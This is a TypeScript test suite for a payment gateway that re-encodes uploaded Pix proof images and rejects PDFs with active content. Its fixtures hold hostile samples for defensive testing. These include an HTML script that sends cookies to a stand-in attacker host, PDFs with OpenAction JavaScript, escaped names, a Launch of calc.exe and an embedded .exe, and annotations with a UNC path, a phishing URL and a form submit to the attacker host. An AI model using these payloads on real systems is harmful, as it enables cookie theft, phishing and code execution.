// What reaches the owner's mailbox as a Pix proof: images decoded and encoded again (a PNG
// or JPEG carrying an HTML page after its end or in a metadata chunk arrives as pixels
// only), and PDFs that can act on opening, or on a click, refused with 422
// `proof_active_content` — links, and every action that opens, submits or launches — also
// when the action hides in a compressed object stream or behind `#xx` name escapes.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { testGateway } from '../../helpers/gateway.js';
import { type SmtpPeer, startSmtp } from '../../helpers/smtp.js';
import { paymentsConfig } from './config.js';
import { attachmentOf, PIX } from './pix-helpers.js';

const HTML = '<html><body><script>fetch("https://atacante.example/"+document.cookie)</script></body></html>';

/** A PNG with a text chunk holding HTML before IEND (what a polyglot hides in). */
function withTextChunk(png: Buffer, text: string): Buffer {
  const data = Buffer.from(`Comment\0${text}`, 'latin1');
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  chunk.write('tEXt', 4, 'latin1');
  data.copy(chunk, 8);
  chunk.writeUInt32BE(0, 8 + data.length); // CRC not checked by readers that skip ancillary chunks
  const iend = png.length - 12;
  return Buffer.concat([png.subarray(0, iend), chunk, png.subarray(iend)]);
}

async function pdf(edit?: (doc: PDFDocument) => void, useObjectStreams = true): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 100]).drawText('Comprovante Pix R$ 27,50', { x: 10, y: 50, size: 10 });
  edit?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams }));
}

const openActionJs = (doc: PDFDocument) =>
  doc.catalog.set(
    PDFName.of('OpenAction'),
    doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  );

describe('Pix proofs: re-encoded images, inert PDFs only', () => {
  let smtp: SmtpPeer;
  let gw: Awaited<ReturnType<typeof testGateway>>;
  let base: string;
  let png: Buffer;
  let jpeg: Buffer;

  before(async () => {
    smtp = await startSmtp();
    gw = await testGateway({
      ...paymentsConfig(
        {},
        { pix: { ...PIX, daily_cap_per_network: 100, pending_per_address: 100, pending_per_network: 100 } },
      ),
      SMTP_URL: smtp.url,
    });
    base = await gw.app.listen({ port: 0, host: '127.0.0.1' });
    const image = sharp({ create: { width: 32, height: 24, channels: 3, background: '#c33' } });
    png = await image.clone().png().toBuffer();
    jpeg = await image.clone().jpeg().toBuffer();
  });
  after(async () => {
    await gw.dispose();
    await smtp.close();
  });

  const send = (bytes: Buffer, name: string, type: string) => {
    const f = new FormData();
    f.append('usd', '1');
    f.append('email', 'comprador@example.org');
    f.append('comprovante', new Blob([bytes], { type }), name);
    return fetch(`${base}/api/credito/pix`, { method: 'POST', body: f });
  };
  const mailed = async (res: Response) => {
    assert.equal(res.status, 200, await res.clone().text());
    const { id } = (await res.json()) as { id: string };
    const deadline = Date.now() + 10_000;
    for (;;) {
      const mail = smtp.messages.find((m) => m.header('subject')?.includes(id));
      if (mail) return attachmentOf(mail.raw);
      if (Date.now() > deadline) throw new Error(`no mail for ${id}`);
      await new Promise((r) => setTimeout(r, 50));
    }
  };

  it('a PNG/HTML polyglot arrives as a clean PNG of the same picture', async () => {
    for (const polyglot of [Buffer.concat([png, Buffer.from(HTML)]), withTextChunk(png, HTML)]) {
      const attached = await mailed(await send(polyglot, 'comprovante.png', 'image/png'));
      assert.ok(!attached.toString('latin1').includes('<script'), 'the HTML is gone');
      const meta = await sharp(attached).metadata();
      assert.deepEqual([meta.format, meta.width, meta.height], ['png', 32, 24]);
    }
  });

  it('a JPEG with a page after its end arrives as a clean JPEG', async () => {
    const attached = await mailed(
      await send(Buffer.concat([jpeg, Buffer.from(HTML)]), 'c.jpg', 'image/jpeg'),
    );
    assert.ok(!attached.toString('latin1').includes('<script'));
    assert.equal((await sharp(attached).metadata()).format, 'jpeg');
  });

  it('415 for an image that cannot be decoded', async () => {
    const broken = Buffer.concat([png.subarray(0, 16), Buffer.from(HTML)]);
    const res = await send(broken, 'c.png', 'image/png');
    assert.equal(res.status, 415);
    assert.equal(((await res.json()) as { error: string }).error, 'unsupported_media_type');
  });

  it('422 proof_active_content for PDFs that act: OpenAction/JavaScript, escaped names, object streams, launches, attachments', async () => {
    const before = smtp.messages.length;
    const plainText = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    );
    const escaped = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Open#41ction << /S /J#61vaScript /J#53 (x) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    );
    const hidden = await pdf(openActionJs, true);
    assert.ok(!hidden.toString('latin1').includes('/OpenAction'), 'the action is inside an object stream');
    const launch = await pdf((doc) =>
      doc.catalog.set(
        PDFName.of('OpenAction'),
        doc.context.obj({ S: 'Launch', F: PDFString.of('calc.exe') }),
      ),
    );
    const attachment = await pdf((doc) =>
      doc.attach(Buffer.from('MZ…'), 'fatura.exe', { mimeType: 'application/octet-stream' }),
    );
    for (const [name, bytes] of Object.entries({ plainText, escaped, hidden, launch, attachment })) {
      const res = await send(bytes, 'c.pdf', 'application/pdf');
      assert.equal(res.status, 422, `${name}: ${res.status}`);
      assert.equal(((await res.json()) as { error: string }).error, 'proof_active_content', name);
    }
    assert.equal(smtp.messages.length, before, 'nothing mailed');
  });

  it('422 proof_active_content for link annotations and every action that opens, submits or launches', async () => {
    const before = smtp.messages.length;
    /** A page with one annotation of this subtype whose action is `action`. */
    const annotated = (subtype: string, action: Record<string, unknown>) =>
      pdf((doc) => {
        const annot = doc.context.obj({
          Type: 'Annot',
          Subtype: subtype,
          Rect: [0, 0, 200, 20],
          A: action as never,
        });
        doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([annot]));
      });
    const text = (s: string) => PDFString.of(s);
    const cases: Record<string, Promise<Buffer>> = {
      'GoToR to a UNC path': annotated('Link', {
        S: 'GoToR',
        F: text('\\\\atacante.example\\share\\x.pdf'),
        D: [0, 'Fit'],
      }),
      'URI to a phishing page': annotated('Link', {
        S: 'URI',
        URI: text('https://banco-falso.example/entrar'),
      }),
      GoToE: annotated('Link', { S: 'GoToE', T: { R: 'C', N: text('anexo') } }),
      Launch: annotated('Link', { S: 'Launch', F: text('calc.exe') }),
      SubmitForm: annotated('Widget', { S: 'SubmitForm', F: text('https://atacante.example/coleta') }),
      ImportData: annotated('Widget', { S: 'ImportData', F: text('dados.fdf') }),
      JavaScript: annotated('Widget', { S: 'JavaScript', JS: text('app.alert(1)') }),
      Rendition: annotated('Screen', { S: 'Rendition', OP: 0 }),
      'a link within the document': annotated('Link', { S: 'GoTo', D: [0, 'Fit'] }),
    };
    for (const [name, made] of Object.entries(cases)) {
      const res = await send(await made, 'c.pdf', 'application/pdf');
      assert.equal(res.status, 422, `${name}: ${res.status}`);
      assert.equal(((await res.json()) as { error: string }).error, 'proof_active_content', name);
    }
    assert.equal(smtp.messages.length, before, 'nothing mailed');
  });

  it('a plain PDF (with or without object streams) is accepted as sent', async () => {
    for (const useObjectStreams of [true, false]) {
      const plain = await pdf(undefined, useObjectStreams);
      const attached = await mailed(await send(plain, 'c.pdf', 'application/pdf'));
      assert.ok(attached.equals(plain));
    }
  });
});
